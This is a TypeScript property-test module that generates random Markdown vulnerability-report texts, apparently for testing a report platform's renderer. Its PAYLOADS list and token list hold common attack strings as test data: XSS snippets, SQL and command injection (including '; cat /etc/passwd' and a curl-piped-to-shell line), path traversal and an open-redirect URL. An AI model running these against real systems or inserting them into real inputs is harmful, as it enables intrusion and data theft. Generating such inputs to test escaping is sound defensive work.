/**
 * Generated report texts for property tests, one module for every test that draws them:
 * - `description`: the Markdown a researcher writes (template headings, URLs, e-mails, domains,
 *   code, lists, tables, quotes, images, references, file links) and the Markdown an editor or
 *   another client may produce from it (escapes, setext headings, raw HTML, odd spacing), combined
 *   at random with runs of blocks of real reports (support/report-texts.ts);
 * - `reportWithPayloads`: a description with what researchers paste verbatim after it (payloads
 *   with `<`, `>`, `[`, `]`, `|`, backslashes, template syntax, SQL, shell, JSON, redaction marks)
 *   in running text, lists, quotes, tables and code fences;
 * - the CommonMark specification's examples.
 */
import fc from 'fast-check';
import spec from 'commonmark-spec';
import { TEMPLATE_HEADINGS } from '../../src/shared/rules/description';
import { reportExcerptArb } from './report-texts';

export const REPORT_ID = '1b4e28ba-2fa1-41d2-883f-0016d3cca427';
export const FILE_IDS = [
  '6fa459ea-ee8a-4ca4-894e-db77e160355e',
  '16fd2706-8baf-433b-82eb-8c7fada847da',
] as const;

/** Runs of parts drawn by weight (a weight of 3 is drawn three times as often as one of 1). */
export function weightedRun<T>(
  size: { minLength?: number; maxLength: number },
  ...parts: (readonly [weight: number, part: fc.Arbitrary<T>])[]
): fc.Arbitrary<T[]> {
  return fc.array(fc.oneof(...parts.map(([weight, arbitrary]) => ({ weight, arbitrary }))), size);
}

/** The CommonMark 0.31.2 examples (tabs are written "→" in the specification). */
export const COMMONMARK_EXAMPLES: { number: number; section: string; markdown: string }[] =
  spec.tests.map((t) => ({
    number: t.number,
    section: t.section,
    markdown: t.markdown.replace(/→/g, '\t'),
  }));

const word = fc.constantFrom(
  'login',
  'token',
  'the',
  'redirect',
  'admin',
  'café',
  'naïve',
  '日本語',
  '😀',
  'x_y',
  'a*b',
  '2.',
  '#1',
  'C#',
  '100%',
  '$HOME',
  "O'Brien",
  '"quoted"',
);

/** What researchers type in running text that Markdown treats specially. */
const typedToken = fc.constantFrom(
  'https://app.example.com/login?next=//evil.example&x=1',
  'http://x.com',
  'https://x.com/a_b_c/(d)',
  'www.example.com',
  'www.x.com/path',
  'security@example.com',
  'a.b+c@sub.example.co',
  'api.example.com',
  'example.com',
  '127.0.0.1:8080',
  '`GET /api/v1/users?id=1`',
  '`<script>alert(1)</script>`',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '**bold**',
  '_it_',
  '~~gone~~',
  'a\\b',
  '\\*not\\*',
  'https\\://x.com',
  'www\\.x.com',
  'a\\@b.co',
  '&amp;',
  '&copy;',
  '[text](https://example.com "title")',
  '[text](javascript:alert(1))',
  '![shot](https://example.com/shot.png)',
  '![shot][1]',
  '![shot][]',
  '[shot][]',
  '[ref][1]',
  '<https://example.com>',
  '<me@example.com>',
  `[poc.txt](/reports/${REPORT_ID}/files/${FILE_IDS[0]})`,
  `![screen.png](/reports/${REPORT_ID}/files/${FILE_IDS[1]})`,
  '[^1]',
  '|',
  '\\',
  '*',
  '_',
);

const inline = weightedRun({ minLength: 1, maxLength: 8 }, [3, word], [2, typedToken]).chain(
  (parts) =>
    fc
      .array(fc.constantFrom(' ', ' ', ' ', '', '\n', '  \n', '. ', ', '), {
        minLength: parts.length,
        maxLength: parts.length,
      })
      .map((seps) => parts.map((p, i) => p + (i < parts.length - 1 ? seps[i] : '')).join('')),
);

const heading = fc
  .tuple(
    fc.constantFrom(...TEMPLATE_HEADINGS, 'Setup', 'Notes'),
    fc.constantFrom('# ', '## ', '### ', 'setext1', 'setext2', '##  '),
  )
  .map(([text, kind]) =>
    kind === 'setext1' ? `${text}\n===` : kind === 'setext2' ? `${text}\n---` : `${kind}${text}`,
  );

const list = fc
  .tuple(
    fc.constantFrom('- ', '* ', '1. ', '2. ', '- [ ] ', '- [x] '),
    fc.array(inline, { minLength: 1, maxLength: 4 }),
  )
  .map(([marker, items]) =>
    items
      .map((item, i) => {
        const m = /^\d/.test(marker) ? `${i + 1}. ` : marker;
        return m + item.replace(/\n/g, ' ');
      })
      .join('\n'),
  );

const nested = fc
  .tuple(inline, inline)
  .map(([a, b]) => `- ${a.replace(/\n/g, ' ')}\n  - ${b.replace(/\n/g, ' ')}`);

const codeBlock = fc
  .tuple(fc.constantFrom('', 'http', 'js', 'bash'), inline)
  .map(([lang, body]) => `\`\`\`${lang}\n${body}\n\`\`\``);

const table = fc.array(fc.tuple(inline, inline), { minLength: 1, maxLength: 3 }).map((rows) => {
  const cell = (s: string): string => s.replace(/\n/g, ' ').replace(/\|/g, '\\|');
  return [
    '| Request | Result |',
    '| --- | --- |',
    ...rows.map(([a, b]) => `| ${cell(a)} | ${cell(b)} |`),
  ].join('\n');
});

const quote = inline.map((text) =>
  text
    .split('\n')
    .map((l) => `> ${l}`)
    .join('\n'),
);

const definition = fc.constantFrom(
  '[1]: https://example.com/shot.png',
  '[1]: https://example.com/shot.png "Shot"',
  '[shot]: https://example.com/shot.png',
  `[1]: /reports/${REPORT_ID}/files/${FILE_IDS[0]}`,
  '[^1]: A footnote.',
);

const block = fc.oneof(
  { weight: 6, arbitrary: inline },
  { weight: 4, arbitrary: heading },
  { weight: 2, arbitrary: list },
  { weight: 1, arbitrary: nested },
  { weight: 1, arbitrary: codeBlock },
  { weight: 1, arbitrary: table },
  { weight: 1, arbitrary: quote },
  { weight: 1, arbitrary: definition },
  { weight: 1, arbitrary: fc.constantFrom('---', '<br />', '<!-- note -->', '<div>x</div>', '') },
  { weight: 3, arbitrary: reportExcerptArb(1_500, 3) },
);

/** A description: blocks with the separators writers and editors put between them. */
export const description = fc
  .array(fc.tuple(block, fc.constantFrom('\n\n', '\n\n', '\n', '\n\n\n', '  \n\n')), {
    maxLength: 12,
  })
  .map((blocks) => blocks.map(([b, sep]) => b + sep).join(''));

/** Anything at all, including lone surrogates and control characters. */
export const anyText = fc.string({ unit: 'binary', maxLength: 200 });

/**
 * A description, a long run of a real report (up to 4,000 characters: whole reports of 30,000
 * make each property run take minutes; the corpus tests read them whole), or anything at all.
 */
export const anyDescription = fc.oneof(
  { weight: 4, arbitrary: description },
  { weight: 1, arbitrary: reportExcerptArb(4_000, 12) },
  { weight: 1, arbitrary: anyText },
);

/** What researchers paste verbatim into a report. */
export const PAYLOADS = [
  '<script>alert(document.domain)</script>',
  '"><svg/onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  "' OR 1=1--",
  "admin'-- -",
  '1; DROP TABLE users--',
  '$(id)',
  '`id`',
  'curl -s https://x.com/a?b=1 | sh',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'C:\\Users\\me\\AppData',
  '\\\\server\\share',
  '{"role":"admin","ids":[1,2]}',
  '[REDACTED:aws-access-key]',
  '[REDACTED:github-pat]',
  'a|b|c',
  '<!-- x -->',
  '%3Cscript%3E',
  'javascript:alert(1)',
  'https://x.com/?q=<b>&r=[1]',
  'security@example.com',
  '*/alert(1)/*',
  '\\x3cscript\\x3e',
  'a_b_c',
  '~~x~~',
] as const;

const payload = fc.constantFrom(...PAYLOADS);
const payloadWord = fc.constantFrom(
  'Send',
  'the',
  'request',
  'with',
  'as',
  'name',
  'then',
  'see',
  'body:',
);

const payloadLine = weightedRun({ minLength: 1, maxLength: 7 }, [2, payloadWord], [1, payload]).map(
  (parts) => parts.join(' '),
);

const payloadBlock = fc.oneof(
  { weight: 4, arbitrary: payloadLine },
  { weight: 1, arbitrary: payloadLine.map((l) => `- ${l}`) },
  { weight: 1, arbitrary: payloadLine.map((l) => `> ${l}`) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('', 'http', 'sql', 'sh', 'json'),
        fc.array(payload, { minLength: 1, maxLength: 3 }),
      )
      .map(([lang, lines]) => `\`\`\`${lang}\n${lines.join('\n')}\n\`\`\``),
  },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.tuple(payload, payload), { minLength: 1, maxLength: 3 })
      .map((rows) =>
        [
          '| Input | Output |',
          '| --- | --- |',
          ...rows.map((r) => `| ${r.map((c) => c.replace(/\|/g, '\\|')).join(' | ')} |`),
        ].join('\n'),
      ),
  },
);

/** A generated description with pasted payload blocks after it. */
export const reportWithPayloads = fc
  .tuple(description, fc.array(payloadBlock, { minLength: 1, maxLength: 4 }))
  .map(([text, blocks]) => `${text.trimEnd()}\n\n${blocks.join('\n\n')}\n`.replace(/^\n+/, ''));
